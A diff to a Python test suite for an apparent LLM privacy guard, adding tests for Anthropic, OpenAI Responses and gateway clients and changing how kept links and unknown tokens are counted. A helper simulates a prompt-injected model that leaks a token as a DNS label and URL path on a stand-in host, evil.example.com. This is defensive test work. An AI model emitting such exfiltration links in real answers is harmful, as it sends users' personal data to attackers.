@@ -408,6 +408,11 @@ def test_openai_chat_keeps_the_token_in_an_image_link(chunk_size: int | None) ->
     assert event["links_kept"] == 1 and event["status"] == "ok"
 
 
+def _hosts_kept(answer: str) -> None:
+    assert len(TOKEN_RE.findall(answer)) == 2 and answer.endswith(f"I wrote to {ORIGINAL}.")
+    assert answer.count(ORIGINAL) == 1, answer
+
+
 def _exfiltrating_by_host(payload: dict[str, Any]) -> str:
     """An injected model that needs no scheme: the value as a DNS label, and a bare
     host's path (chat apps link and preview both)."""
@@ -415,11 +420,6 @@ def _exfiltrating_by_host(payload: dict[str, Any]) -> str:
     assert found is not None, "the request reached the model with its value raw"
     token = found.group(0)
     return f"See {token}.evil.example.com and evil.example.com/c/{token}. I wrote to {token}."
-
-
-def _hosts_kept(answer: str) -> None:
-    assert len(TOKEN_RE.findall(answer)) == 2 and answer.endswith(f"I wrote to {ORIGINAL}.")
-    assert answer.count(ORIGINAL) == 1, answer
 
 
 @pytest.mark.parametrize("chunk_size", [None, 1, 3, 7])
@@ -430,14 +430,20 @@ def test_openai_chat_keeps_a_token_that_is_a_host_label(chunk_size: int | None) 
     answer = _askopenai_client(guard, fake, stream=chunk_size is not None)
     _hosts_kept(answer)
     event = one_event(sink)
-    assert event["links_kept"] == 2 and event["status"] == "ok"
+    # One token, kept in two places: counted once.
+    assert event["links_kept"] == 1 and event["status"] == "ok"
 
 
 @pytest.mark.parametrize("stream", [False, True])
-def test_anthropic_keeps_the_token_in_an_image_link(stream: bool) -> None:
+@pytest.mark.parametrize(
+    ("reply", "check"),
+    [(_exfiltrating, _link_kept), (_exfiltrating_by_host, _hosts_kept)],
+    ids=["image link", "host label"],
+)
+def test_anthropic_keeps_the_token_in_an_image_link(stream: bool, reply: Any, check: Any) -> None:
     sink = InMemorySink()
     guard = aiguard.Guard(_policy(), sinks=[sink])
-    fake = FakeModel(reply=_exfiltrating, chunk_size=2)
+    fake = FakeModel(reply=reply, chunk_size=2)
     client = anthropic.Anthropic(
         http_client=guard.http_client(transport=fake.transport), api_key="test", max_retries=0
     )
@@ -452,8 +458,62 @@ def test_anthropic_keeps_the_token_in_an_image_link(stream: bool) -> None:
                 answer = "".join(events.text_stream)
         else:
             answer = client.messages.create(**kwargs).content[0].text
-    _link_kept(answer)
+    check(answer)
     assert one_event(sink)["links_kept"] == 1
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_openai_responses_keeps_a_token_that_is_a_host_label(stream: bool) -> None:
+    """The Responses API, whole and streamed (deltas, and the text the `.done` events and
+    `response.completed` repeat)."""
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    client = openai_client(guard, FakeModel(reply=_exfiltrating_by_host, chunk_size=3))
+    with guard.context(subject="cust-42", purpose="inference"):
+        if stream:
+            with client.responses.stream(model="gpt-4o", input=QUESTION) as events:
+                deltas = "".join(e.delta for e in events if e.type == "response.output_text.delta")
+                final = events.get_final_response().output_text
+            assert deltas == final
+            answer = final
+        else:
+            answer = client.responses.create(model="gpt-4o", input=QUESTION).output_text
+    _hosts_kept(answer)
+    # Counted once, though a Responses stream states its text five times (deltas, the
+    # `.done` events, the output item, `response.completed`).
+    assert one_event(sink)["links_kept"] == 1
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("api", ["chat", "responses"])
+def test_unknown_tokens_count_once_per_call_however_the_answer_is_framed(
+    api: str, stream: bool
+) -> None:
+    """Three guessed tokens, one of them twice: three, whole or streamed, in either API
+    (the `unknown_tokens` alert reads the count, so framing must not inflate it)."""
+    guessed = "[EMAIL_7Q2KX9M4T1B8D] [PHONE_7Q2KX9M4T1B8C] [NAME_7Q2KX9M4T1B8C]"
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    client = openai_client(guard, FakeModel(reply=f"{guessed} and {guessed[:21]}.", chunk_size=3))
+    with guard.context(subject="cust-42", purpose="inference"):
+        if api == "responses":
+            if stream:
+                with client.responses.stream(model="gpt-4o", input=QUESTION) as events:
+                    answer = events.get_final_response().output_text
+            else:
+                answer = client.responses.create(model="gpt-4o", input=QUESTION).output_text
+        else:
+            messages: Any = [{"role": "user", "content": QUESTION}]
+            if stream:
+                chunks = client.chat.completions.create(
+                    model="gpt-4o", messages=messages, stream=True
+                )
+                answer = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
+            else:
+                done = client.chat.completions.create(model="gpt-4o", messages=messages)
+                answer = str(done.choices[0].message.content)
+    assert answer.startswith(guessed)
+    assert one_event(sink)["unknown_tokens"] == 3
 
 
 @pytest.mark.parametrize("stream", [False, True])
@@ -594,11 +654,11 @@ def test_the_async_client_keeps_the_token_in_an_image_link() -> None:
 
 
 @pytest.mark.parametrize(
-    ("reply", "check", "kept"),
-    [(_exfiltrating, _link_kept, 1), (_exfiltrating_by_host, _hosts_kept, 2)],
+    ("reply", "check"),
+    [(_exfiltrating, _link_kept), (_exfiltrating_by_host, _hosts_kept)],
     ids=["image link", "host label"],
 )
-def test_the_gateway_keeps_the_token_in_an_image_link(reply: Any, check: Any, kept: int) -> None:
+def test_the_gateway_keeps_the_token_in_an_image_link(reply: Any, check: Any) -> None:
     """The OpenAI-compatible gateway on a loopback socket, in front of the fake model."""
     pytest.importorskip("starlette")
     pytest.importorskip("uvicorn")
@@ -621,7 +681,7 @@ def test_the_gateway_keeps_the_token_in_an_image_link(reply: Any, check: Any, ke
             streamed = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
     for answer in (whole.choices[0].message.content, streamed):
         check(answer)
-    assert [e["links_kept"] for e in sink.calls()] == [kept, kept]
+    assert [e["links_kept"] for e in sink.calls()] == [1, 1]
 
 
 def test_a_vault_that_fails_while_a_link_token_is_looked_up_fails_the_answer(
